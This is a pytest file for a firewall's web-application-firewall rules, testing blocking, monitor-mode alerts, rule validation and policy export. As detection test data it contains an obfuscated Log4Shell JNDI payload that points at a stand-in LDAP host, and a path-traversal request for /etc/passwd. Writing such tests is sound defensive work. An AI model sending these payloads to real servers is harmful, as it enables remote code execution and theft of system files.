"""Virtual patches in the verdict handler on hand-built packets: block with the 403 answer in
protect mode, alert and pass in monitor mode, per the group's ``waf`` rules."""

from __future__ import annotations

import pytest

from stockade.firewall.enforce import marks
from stockade.firewall.enforce.inspector import Inspector
from stockade.firewall.policy.endpoints import Directory
from stockade.firewall.policy.engine import data_needs
from stockade.firewall.policy.files import parse_texts
from stockade.model.errors import ConfigError
from stockade.network.dlp.engine import DlpEngine
from tests.firewall.conftest import EXAMPLES
from tests.firewall.test_inspector import ACK, PSH, SYN, packet
from tests.firewall.test_policy_model import CRM, ORD, PAY
from tests.network.waf_corpus import get

BASE = (EXAMPLES / "policy.yaml").read_text()
LOG4SHELL = get("/", "User-Agent: ${${lower:j}ndi:ldap://x.example/a}")


def policy(waf: str, mode: str = "protect"):
    text = BASE.replace(
        "        - {sensor: dlp.us_ssn, action: alert}\n",
        f"        - {{sensor: dlp.us_ssn, action: alert}}\n      waf: {waf}\n",
        1,
    ).replace("mode: protect", f"mode: {mode}", 1)
    return parse_texts([("policy.yaml", text)])


def inspector(pol, events: list) -> Inspector:
    return Inspector(pol, Directory([PAY, ORD, CRM]), dlp_engine=DlpEngine(), emit=events.append)


def send(insp: Inspector, req: bytes, port: int) -> int:
    insp.packet(packet(PAY.ip, ORD.ip, port, 8080, SYN, 100))
    return insp.packet(packet(PAY.ip, ORD.ip, port, 8080, ACK | PSH, 101, req))[1]


def test_builtin_pack_blocks_with_the_403_and_names_the_cves() -> None:
    events: list = []
    insp = inspector(policy("builtin"), events)
    assert send(insp, LOG4SHELL, 42000) == marks.BLOCK
    assert insp.reply is not None and insp.reply.event == "waf.blocked"
    assert "CVE-2021-44228" in insp.reply.reason
    (event,) = events
    assert event.kind == "waf.blocked" and event.data["sensor"] == "waf.log4shell"
    assert event.data["cves"] == ["CVE-2021-44228", "CVE-2021-45046"]
    assert event.data["action"] == "block" and event.data["where"] == "header:User-Agent"


def test_monitor_mode_alerts_and_lets_it_pass() -> None:
    events: list = []
    insp = inspector(policy("builtin", mode="monitor"), events)
    assert send(insp, LOG4SHELL, 42001) != marks.BLOCK
    assert insp.reply is None
    assert [(e.kind, e.data["action"]) for e in events] == [("waf.detected", "alert")]


def test_alert_rule_in_protect_mode_passes_and_other_sensors_are_not_asked_for() -> None:
    events: list = []
    rules = "[{sensor: waf.log4shell, action: alert}]"
    insp = inspector(policy(rules), events)
    assert send(insp, LOG4SHELL, 42002) != marks.BLOCK
    assert send(insp, get("/static/../../etc/passwd"), 42003) != marks.BLOCK  # not in the rules
    assert [e.kind for e in events] == ["waf.detected"]


def test_clean_request_passes_and_groups_without_waf_are_not_inspected_for_it() -> None:
    events: list = []
    insp = inspector(policy("builtin"), events)
    assert send(insp, get("/orders?page=2"), 42004) != marks.BLOCK
    assert events == []
    needs = data_needs(policy("builtin"), PAY, ORD)
    assert needs.waf_block == ("waf.*",) and needs.waf
    assert not data_needs(policy("builtin"), ORD, CRM).waf  # requests into crm: not protected


def test_waf_rules_must_name_waf_sensors() -> None:
    with pytest.raises(ConfigError, match=r"policy.yaml:\d+: .*waf.*must be a waf"):
        policy("[{sensor: dlp.payment_card, action: block}]")


def test_waf_rules_survive_export_and_show_in_the_group_states() -> None:
    from stockade.firewall.policy.files import dump
    from stockade.firewall.policy.store import group_states

    pol = policy("builtin")
    again = parse_texts([("exported.yaml", dump(pol))])
    assert again.group("cde").waf_rules() == pol.group("cde").waf_rules()
    assert next(g for g in group_states(pol) if g["name"] == "cde")["waf"] == ["waf.*:block"]
